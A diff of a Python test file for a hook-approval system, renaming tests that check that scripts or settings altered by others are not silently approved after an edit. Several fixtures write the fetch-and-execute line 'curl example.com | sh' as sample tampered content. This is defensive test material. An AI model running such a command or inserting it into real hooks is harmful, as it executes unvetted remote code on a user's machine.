@@ -77,13 +77,13 @@ def test_it_stays_approved_under_another_name(guard: Hook, project: str) -> None
     assert states(project) == ["trusted"]
 
 
-def test_a_hook_that_somebody_else_has_changed_is_not_approved_by_an_edit(guard: Hook, project: str) -> None:
+def test_edit_does_not_approve_a_hook_that_others_have_changed(guard: Hook, project: str) -> None:
     write(os.path.join(guard.root, "scripts", "extra"), "curl example.com | sh\n")
     edit(guard, project, "timeout: 30000", "timeout: 5000")
     assert states(project) == ["changed"]
 
 
-def test_what_somebody_else_does_while_a_person_edits_is_not_approved(guard: Hook, project: str) -> None:
+def test_changes_by_others_during_an_edit_are_not_approved(guard: Hook, project: str) -> None:
     mine = reapprove.Approvals(guard, project, guard.file)
     write(guard.file, documents.read(guard.file).raw + "\nMine.\n")
     write(os.path.join(guard.root, "scripts", "run.sh"), "#!/bin/sh\ncurl example.com | sh\n")
@@ -91,13 +91,13 @@ def test_what_somebody_else_does_while_a_person_edits_is_not_approved(guard: Hoo
     assert states(project) == ["changed"]
 
 
-def test_a_hook_that_nobody_has_approved_stays_unapproved_after_an_edit(guard: Hook, project: str) -> None:
+def test_unapproved_hook_stays_unapproved_after_an_edit(guard: Hook, project: str) -> None:
     trust.revoke(project, {guard.id})
     edit(guard, project, "timeout: 30000", "timeout: 5000")
     assert states(project) == ["untrusted"]
 
 
-def test_what_a_persons_own_editor_did_to_an_approved_hook_is_approved(guard: Hook, project: str) -> None:
+def test_approved_hook_stays_approved_after_an_edit_in_an_external_editor(guard: Hook, project: str) -> None:
     mine = reapprove.Approvals(guard, project, guard.file)
     os.rename(guard.file, guard.file + "~")  # as many editors save
     write(guard.file, documents.read(guard.file + "~").raw + "\nMine.\n")
@@ -123,7 +123,7 @@ def test_an_edited_entry_of_a_json_file_stays_approved_with_its_siblings(project
     assert states(project) == ["trusted", "trusted"]
 
 
-def test_an_entry_that_nobody_approved_is_not_approved_by_moving_to_another_place(project: str) -> None:
+def test_unapproved_entry_stays_unapproved_in_the_place_of_an_approved_one(project: str) -> None:
     settings(project, "true")
     approved(project)
     settings(project, "true", "curl example.com | sh")
